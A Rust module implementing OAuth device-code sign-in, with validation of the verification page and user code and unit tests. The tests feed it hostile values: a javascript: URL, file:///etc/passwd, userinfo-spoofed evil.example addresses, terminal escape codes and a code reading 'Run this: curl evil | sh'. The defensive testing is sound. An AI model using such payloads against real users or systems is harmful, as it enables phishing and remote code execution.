//! Sign-in with a code that is typed elsewhere (RFC 8628): for a terminal without a browser, and where no port is free.
//!
//! Owns the invitation, which pages and codes are taken for one, and the wait for it. Whoever shows it says that only who began
//! this should go on: a code that a stranger sends is how this way is abused.

use jiff::{SignedDuration, Timestamp};
use openidconnect::core::CoreDeviceAuthorizationResponse;
use openidconnect::{DeviceCodeErrorResponseType, Nonce, RequestTokenError, Scope};
use url::Url;

use crate::failure::Failure;
use crate::provider::{Provider, Tokens};
use crate::wire::is_here;

/// The longest code that is taken for one, in characters: a person types it.
const LONGEST: usize = 20;

/// What the person is shown.
#[derive(Clone, Debug)]
pub struct Invitation {
    /// What to type.
    pub code: String,
    /// Where.
    pub address: Url,
    /// The same with the code in it, where it is on the same host.
    pub whole: Option<Url>,
    /// By our clock, until when.
    pub until: Timestamp,
    /// The host that was asked.
    asked: String,
}

impl Invitation {
    /// What `host` gave, which was asked at `asked`: shown to the person, who opens the page and types the code.
    ///
    /// # Errors
    /// The page is not one over TLS, or names a user; or the code is none.
    pub(crate) fn of(
        given: &CoreDeviceAuthorizationResponse,
        host: &str,
        asked: &Url,
        now: Timestamp,
    ) -> Result<Self, Failure> {
        let refused = |why| Failure::NoInvitation {
            host: host.to_owned(),
            why,
        };
        let address = page(given.verification_uri(), asked).map_err(refused)?;
        let code = given.user_code().secret().trim();
        if !is_code(code) {
            return Err(refused(
                "what it calls a code is none: one has letters, digits and hyphens, and at most 20 of them",
            ));
        }
        // Only there: what is said of the one address has to hold of the other.
        let whole = given
            .verification_uri_complete()
            .and_then(|whole| page(whole.secret(), asked).ok())
            .filter(|whole| whole.origin() == address.origin());
        let lives = SignedDuration::try_from(given.expires_in()).unwrap_or(SignedDuration::ZERO);
        Ok(Self {
            code: code.to_owned(),
            address,
            whole,
            until: now.checked_add(lives).unwrap_or(Timestamp::MAX),
            asked: asked.host_str().unwrap_or(host).to_owned(),
        })
    }

    /// What the person has to know of the page, if it is not on the host that was asked.
    pub fn caution(&self) -> Option<String> {
        let page = self.address.host_str()?;
        let asked = self.asked.as_str();
        let is_below = |one: &str, other: &str| {
            one.strip_suffix(other)
                .is_some_and(|rest| rest.ends_with('.'))
        };
        let is_its = page == asked || is_below(page, asked) || is_below(asked, page);
        (!is_its)
            .then(|| format!("The page is on {page}, not on {asked}: go on only if you know it."))
    }
}

/// A page to type the code on. In plain only where the one that was asked is on this machine, and the page too.
fn page(address: &str, asked: &Url) -> Result<Url, &'static str> {
    const NO_PAGE: &str = "what it calls the page to type a code on is no https address";
    let page = Url::parse(address).map_err(|_| NO_PAGE)?;
    let is_both_here = asked.scheme() == "http" && is_here(asked) && is_here(&page);
    match page.scheme() {
        "https" => {}
        "http" if is_both_here => {}
        _ => return Err(NO_PAGE),
    }
    // What stands before the @ is read as the host.
    if !page.username().is_empty() || page.password().is_some() {
        return Err("the address of the page to type a code on has a user or a password in it");
    }
    Ok(page)
}

fn is_code(code: &str) -> bool {
    let is_plain = |one: char| one.is_ascii_alphanumeric() || matches!(one, '-' | ' ');
    !code.is_empty() && code.len() <= LONGEST && code.chars().all(is_plain)
}

/// An invitation that was given and not taken yet.
pub struct Invited<'p> {
    provider: &'p Provider,
    given: CoreDeviceAuthorizationResponse,
}

/// Asks for a code.
///
/// # Errors
/// The provider offers none, does not answer, or refuses.
pub async fn invite(provider: &Provider) -> Result<(Invitation, Invited<'_>), Failure> {
    let endpoint = provider.device_endpoint();
    let endpoint = endpoint.ok_or_else(|| provider.not_offered("code to be typed elsewhere"))?;
    let requests = provider.requests().set_device_authorization_url(endpoint);
    let mut asked = requests.exchange_device_code();
    for scope in &provider.spec().scopes {
        asked = asked.add_scope(Scope::new(scope.clone()));
    }
    let given = asked.request_async(provider.wire()).await;
    let given: CoreDeviceAuthorizationResponse = given.map_err(|error| provider.refused(error))?;
    let asked = &provider.spec().issuer;
    let invitation = Invitation::of(&given, &provider.host(), asked, provider.now())?;
    Ok((invitation, Invited { provider, given }))
}

impl Invited<'_> {
    /// Waits until the person has typed the code, asking as often as the provider wants to be asked.
    ///
    /// # Errors
    /// The person says no or the code's time ends; otherwise as a sign-in in the browser.
    pub async fn tokens(self) -> Result<Tokens, Failure> {
        let requests = self.provider.requests();
        let request = requests.exchange_device_access_token(&self.given);
        let request = request.map_err(|_| self.provider.not_offered("tokens"))?;
        let given = request
            .request_async(self.provider.wire(), tokio::time::sleep, None)
            .await;
        let given = given.map_err(|error| match error {
            RequestTokenError::ServerResponse(said) => match said.error() {
                DeviceCodeErrorResponseType::AccessDenied => {
                    Failure::NotDone("the code was refused".to_owned())
                }
                DeviceCodeErrorResponseType::ExpiredToken => {
                    Failure::NotDone("the code's time is over".to_owned())
                }
                _ => self
                    .provider
                    .refused(RequestTokenError::ServerResponse(said)),
            },
            other => self.provider.refused(other),
        })?;
        // A device is sent no nonce: the code that it alone holds binds the answer to the question.
        self.provider
            .proven(&given, |_: Option<&Nonce>| Ok(()))
            .await
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn given(page: &str, whole: &str, code: &str) -> CoreDeviceAuthorizationResponse {
        let given = json!({
            "device_code": "secret",
            "user_code": code,
            "verification_uri": page,
            "verification_uri_complete": whole,
            "expires_in": 60,
        });
        serde_json::from_value(given).unwrap()
    }

    fn invitation(asked: &str, page: &str, code: &str) -> Result<Invitation, Failure> {
        let given = given(page, &format!("{page}?user_code=x"), code);
        let asked = asked.parse().unwrap();
        Invitation::of(&given, "code.example", &asked, Timestamp::UNIX_EPOCH)
    }

    #[test]
    fn the_page_to_type_a_code_on_was_anybodys_or_a_script() {
        let asked = "https://code.example/login/device/code";
        for page in [
            "javascript:alert(1)",
            "data:text/html,x",
            "file:///etc/passwd",
            "http://code.example/device",
            "http://127.0.0.1/device",
            "https://code.example@evil.example/device",
            "https://code.example:x@evil.example/device",
        ] {
            let refused = invitation(asked, page, "ABCD-EFGH").unwrap_err();
            assert!(matches!(refused, Failure::NoInvitation { .. }), "{page}");
            assert!(!refused.to_string().contains(page), "{refused}");
        }
        let here = "http://127.0.0.1:1/code";
        assert!(invitation(here, "http://127.0.0.1:1/device", "A1").is_ok());
        assert!(invitation(here, "http://evil.example/device", "A1").is_err());
        let there = invitation(asked, "https://code.example/device", "A1").unwrap();
        assert!(there.whole.is_some());
        let elsewhere = given(
            "https://code.example/device",
            "https://evil.example/d",
            "A1",
        );
        let asked = asked.parse().unwrap();
        let there = Invitation::of(&elsewhere, "code.example", &asked, Timestamp::UNIX_EPOCH);
        assert_eq!(there.unwrap().whole, None);
    }

    #[test]
    fn a_page_on_another_host_was_shown_without_a_word() {
        let caution = |asked: &str, page: &str| invitation(asked, page, "A1").unwrap().caution();
        let asked = "https://acme.id.example/oauth2";
        for same in ["acme.id.example", "pages.acme.id.example", "id.example"] {
            assert_eq!(caution(asked, &format!("https://{same}/activate")), None);
        }
        for other in [
            "evil.example",
            "acme.id.example.evil.example",
            "evilacme.id.example",
        ] {
            let said = caution(asked, &format!("https://{other}/%1B]8;;x"));
            let page = format!("The page is on {other}, not on acme.id.example: ");
            assert!(said.is_some_and(|said| said.starts_with(&page)), "{other}");
        }
        let here = caution("http://127.0.0.1:1/", "https://127.0.0.1.evil.example/d");
        assert!(here.is_some_and(|said| said.contains("evil.example")));
    }

    #[test]
    fn what_was_no_code_was_shown_as_one() {
        let code = |code: &str| invitation("https://id.example", "https://id.example/d", code);
        for real in ["ABCD-EFGH", "1234 5678", "abc123", "12345678901234567890"] {
            assert_eq!(code(real).unwrap().code, real);
        }
        for none in [
            "",
            "AB [2JCD Run this: curl evil | sh",
            "AB\u{1b}[2J",
            "AB\u{202e}CD",
            "123456789012345678901",
            "a.b",
            "A\nB",
        ] {
            assert!(code(none).is_err(), "{none:?}");
        }
    }
}
